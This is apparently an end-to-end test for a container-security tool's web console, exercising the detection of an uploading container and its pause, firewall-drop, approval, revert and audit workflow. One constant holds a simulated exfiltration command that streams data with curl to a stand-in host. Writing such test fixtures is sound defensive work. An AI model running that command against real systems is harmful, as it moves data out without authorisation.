import { execFile } from 'node:child_process';
import { mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { promisify } from 'node:util';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { LAB_IMAGE } from '../src/emulate/lab/image.js';
import { ConfigSchema } from '../src/model/config.js';
import type { KeptFinding } from '../src/model/live.js';
import type { ResponseSummary } from '../src/respond/describe.js';
import { inspect } from '../src/respond/inspect.js';
import { type Sensors, startSensors } from '../src/sense/sense.js';
import { type Serving, serve } from '../src/serve.js';
import { openLog } from '../src/server/log.js';
import { openBrowser, settled, signedIn, violations, whyNoConsole } from './console-lab.js';
import { whySkip } from './live-lab.js';
import { RespondLab } from './respond-lab.js';

/**
 * From a container that uploads to one that does not, and back, with nothing but a browser: a real engine, kernel and Chromium.
 * STOWAWAY_PICTURES names a folder for pictures of the screens.
 */

const skipped =
  whyNoConsole() ?? (await whySkip('responses from the console', ['lsns', 'ss', 'nft', 'tcpdump', 'curl']));

const PORT = 9000;
const CLI_STATE = 'ledger';
const pictures = process.env.STOWAWAY_PICTURES;

/** 2 MB/s without an end. */
const UPLOAD = `cat /dev/urandom | curl -sS --limit-rate 2M -T - http://198.51.100.10:${PORT}/dump`;

describe.skipIf(skipped !== null)('a response in the console', () => {
  let lab: RespondLab;
  let sensors: Sensors;
  let running: Serving;
  let browser: Browser;
  let victim: string;
  let responder: string;
  let finding: KeptFinding;

  beforeAll(async () => {
    lab = await RespondLab.open();
    const logs = join(lab.folder, 'logs');
    await mkdir(logs, { mode: 0o700 });
    sensors = await startSensors({ folder: logs, engine: lab.engine, netns: lab.netns, accounting: true });
    running = await serve({
      config: ConfigSchema.parse({
        inputs: { host: false, tail: [logs] },
        respond: { engine_socket: lab.socket, netns: lab.netns, max_per_hour: 10 },
        serve: { listen: '127.0.0.1:0', tick_seconds: 1, responses: 'apply' },
      }),
      configFolder: '/',
      stateFolder: join(lab.folder, 'state'),
      respondFolder: join(lab.folder, CLI_STATE),
      environment: () => undefined,
      log: openLog(process.stderr, 'warn'),
    });
    browser = await openBrowser();
    responder = await call<{ secret: string }>('/tokens', { holder: 'alice', role: 'responder' }).then(
      ({ secret }) => secret,
    );
    victim = await upload();
    finding = await untilFound();
  });

  afterAll(async () => {
    await browser?.close();
    await running?.stop();
    await sensors?.stop();
    await lab?.close();
  });

  async function upload(): Promise<string> {
    const { Id } = await lab.engine.post<{ Id: string }>('/containers/create?name=reports', {
      Image: LAB_IMAGE,
      Cmd: ['bash', '-c', UPLOAD],
      HostConfig: { NetworkMode: 'workloads', Init: true },
    });
    await lab.engine.post(`/containers/${Id}/start`);
    return Id;
  }

  async function call<T>(path: string, body?: unknown, token = running.firstToken!): Promise<T> {
    const answer = await fetch(`${running.url}/api/v1${path}`, {
      headers: { authorization: `Bearer ${token}` },
      ...(body !== undefined && { method: 'POST', body: JSON.stringify(body) }),
    });
    if (!answer.ok) throw new Error(`${path}: ${answer.status} ${await answer.text()}`);
    return (await answer.json()) as T;
  }

  async function untilFound(): Promise<KeptFinding> {
    for (let waited = 0; waited < 180; waited += 1) {
      const { findings } = await call<{ findings: KeptFinding[] }>('/findings?state=open&sort=score');
      const found = findings.find(({ finding }) => finding.entity.container_uid === victim);
      if (found) return found;
      await sleep(1000);
    }
    throw new Error('the upload was not found');
  }

  /** Whether bytes of it reach the sink. */
  async function moves(withinMs = 60_000): Promise<boolean> {
    const before = lab.seen(PORT).bytes;
    for (let waited = 0; waited < withinMs; waited += 100) {
      await sleep(100);
      if (lab.seen(PORT).bytes - before > 200_000) return true;
    }
    return false;
  }

  const isPaused = async () => (await inspect(lab.engine, victim))!.is_paused;
  const of = (hash: string) => call<{ response: ResponseSummary }>(`/responses/${hash}`);

  const open = async (path: string, theme: 'light' | 'dark' = 'light') => {
    const opened = await signedIn(browser, { url: running.url, admin: responder }, theme);
    await opened.page.goto(`${running.url}/console${path}`);
    await settled(opened.page);
    return opened;
  };

  /** What one sees, in both themes, without what breaks WCAG. */
  async function looked(page: Page, name: string, at?: string): Promise<void> {
    for (const theme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme: theme });
      if (at) await page.locator(at).scrollIntoViewIfNeeded();
      expect([name, theme, await violations(page)]).toEqual([name, theme, []]);
      if (pictures) await page.screenshot({ path: join(pictures, `${name}-${theme}.png`) });
    }
    await page.emulateMedia({ colorScheme: 'light' });
  }

  test('a finding leads to a plan, an approval, a container that sends nothing, and back', async () => {
    const { page, context, complaints } = await open(`/findings/${finding.uid}`);
    expect(await moves()).toBe(true);
    await page.keyboard.press('r');
    const section = page.locator('#response');
    await section.getByRole('radio', { name: /Pause/ }).waitFor();
    await section.scrollIntoViewIfNeeded();
    expect(await section.getByRole('radio', { name: /Stop restarts/ }).isDisabled()).toBe(true);
    await looked(page, 'response-options', '#response');
    await section.getByRole('radio', { name: /Pause/ }).check();
    await section.getByLabel('Ends by itself after').selectOption('3600');
    await section.getByRole('button', { name: 'Make the plan' }).click();
    await section.getByText('state: paused').waitFor();
    await section.getByText('It does no work at all').waitFor();
    await looked(page, 'response-plan', '#response');
    expect(await isPaused()).toBe(false);

    await section.getByRole('button', { name: 'Approve…' }).click();
    await page.getByRole('dialog').getByLabel('Why').fill('case 17: customer data leaves');
    await page.getByRole('dialog').getByRole('button', { name: 'Approve this plan' }).click();
    await section.getByText('case 17: customer data leaves').waitFor();
    expect(await isPaused()).toBe(false);

    await section.getByRole('button', { name: 'Apply…' }).click();
    const dialog = page.getByRole('dialog', { name: 'Apply this plan' });
    const apply = dialog.getByRole('button', { name: 'Apply this plan' });
    await dialog.getByRole('textbox').fill('report');
    expect(await apply.isDisabled()).toBe(true);
    await page.keyboard.press('Enter');
    expect(await isPaused()).toBe(false);
    await dialog.getByRole('textbox').fill('reports');
    await looked(page, 'response-apply');
    await apply.click();
    await dialog.waitFor({ state: 'detached', timeout: 60_000 });
    await section.getByText('stopped: it sent nothing for').waitFor();
    expect(await isPaused()).toBe(true);
    const sentUntil = lab.seen(PORT).bytes;
    await page.getByText('Contained: pause.').waitFor();
    const left = async () => section.getByRole('timer').first().textContent();
    const before = await left();
    expect(before).toMatch(/^(59|58):\d\d$/);
    await sleep(2000);
    expect(await left()).not.toBe(before);
    await looked(page, 'response-contained', '#response');
    expect(lab.seen(PORT).bytes).toBe(sentUntil);

    await onTheCommandLine();

    await section.getByRole('button', { name: 'Revert…' }).click();
    await page.getByRole('dialog').getByLabel('Why').fill('the image is rebuilt');
    await page.getByRole('dialog').getByRole('button', { name: 'Revert the containment' }).click();
    await section.getByText('alice: the image is rebuilt').waitFor({ timeout: 60_000 });
    expect(await isPaused()).toBe(false);
    expect(await moves()).toBe(true);
    const { entries } = await call<{ entries: { who: string; what: string }[] }>('/audit');
    const deeds = entries.filter(({ what }) => what.startsWith('response.'));
    expect(deeds.map(({ who, what }) => `${who} ${what}`).reverse()).toEqual(
      ['plan', 'approve', 'apply', 'revert'].map((deed) => `alice response.${deed}`),
    );
    expect(complaints).toEqual([]);
    await context.close();
  });

  /** The same response, seen by a process of its own that knows the folder alone. */
  async function onTheCommandLine(): Promise<void> {
    const argv = [lab.main, 'respond', 'list', '--state', join(lab.folder, CLI_STATE), '--format', 'json'];
    const { stdout } = await promisify(execFile)(process.execPath, argv);
    const { responses } = JSON.parse(stdout) as { responses: ResponseSummary[] };
    expect(responses).toMatchObject([
      {
        status: 'contained',
        in_force: true,
        approvals: [{ by: 'alice' }],
        verification: { verdict: 'stopped' },
      },
    ]);
  }

  test('every window of the console shows what is contained, and that it ends by itself', async () => {
    const made = await call<{ response: ResponseSummary }>(
      `/findings/${finding.uid}/responses`,
      { action: 'firewall-drop', expires_seconds: 25 },
      responder,
    );
    const { hash } = made.response;
    const { page, context, complaints } = await open('/responses');
    await page.getByText('planned, not approved').waitFor();
    await call(`/responses/${hash}/approve`, { why: 'again' }, responder);
    await page.getByText('approved, not applied').waitFor();
    await call(`/responses/${hash}/apply`, { confirm: 'reports' }, responder);
    const row = page.getByRole('region', { name: 'Contained now' }).getByRole('row', { name: /reports/ });
    await row.getByRole('timer').waitFor();
    await looked(page, 'responses');
    await page
      .getByRole('region', { name: 'Over' })
      .getByText('Drop all it sends')
      .waitFor({ timeout: 60_000 });
    expect((await of(hash)).response.closed?.why).toBe('expired');
    expect(await moves()).toBe(true);
    await page.getByRole('link', { name: 'Drop all it sends' }).click();
    await page.getByText('policy accept').waitFor();
    await looked(page, 'response');
    expect(complaints).toEqual([]);
    await context.close();
  });

  test('what is refused is told with every reason, and a viewer only looks', async () => {
    await lab.engine.post(`/containers/${victim}/pause`);
    let context: BrowserContext | null = null;
    try {
      const opened = await open(`/findings/${finding.uid}#response`);
      context = opened.context;
      await opened.page.getByText('Refused: the container is paused already').first().waitFor();
      expect(await opened.page.getByRole('button', { name: 'Make the plan' }).isDisabled()).toBe(true);
      await looked(opened.page, 'response-refused', '#response');
    } finally {
      await lab.engine.post(`/containers/${victim}/unpause`);
      await context?.close();
    }
    const { secret } = await call<{ secret: string }>('/tokens', { holder: 'bob', role: 'viewer' });
    const viewing = await signedIn(browser, { url: running.url, admin: secret });
    await viewing.page.goto(`${running.url}/console/findings/${finding.uid}`);
    await viewing.page.locator('#response .stages').waitFor();
    await viewing.page.keyboard.press('r');
    expect(await viewing.page.locator('#response').getByRole('button', { name: /Plan/ }).count()).toBe(0);
    await viewing.context.close();
  });
});
